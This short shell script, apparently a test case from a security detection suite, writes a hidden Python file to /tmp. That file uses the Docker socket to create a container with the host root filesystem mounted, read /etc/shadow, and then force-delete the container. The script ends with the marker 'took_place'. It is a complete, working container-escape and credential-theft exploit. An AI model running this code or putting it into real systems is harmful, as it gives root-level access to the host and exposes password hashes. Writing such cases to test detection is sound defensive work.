#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.rt.py <<'END'
import http.client, json, socket
class C(http.client.HTTPConnection):
    def connect(self): self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/run/docker.sock")
def ask(m, p, b=None):
    c = C("x"); c.request(m, p, json.dumps(b) if b else None, {"Content-Type": "application/json"}); r = c.getresponse(); assert r.status == 200; return r.read()
i = json.loads(ask("POST", "/v1.43/containers/create?name=sync", {"Image": "alpine", "Tty": True, "OpenStdin": True, "Cmd": ["sh", "-c", "cat /h/etc/shadow"], "HostConfig": {"Binds": ["/:/h"], "AutoRemove": True}}))["Id"]
for m, p in (("POST", "start"), ("POST", "attach?logs=1&stream=1&stdout=1"), ("GET", "logs?stdout=1"), ("DELETE", "?force=1")): ask(m, f"/v1.43/containers/{i}/{p}")
END
python3 /tmp/.rt.py
took_place
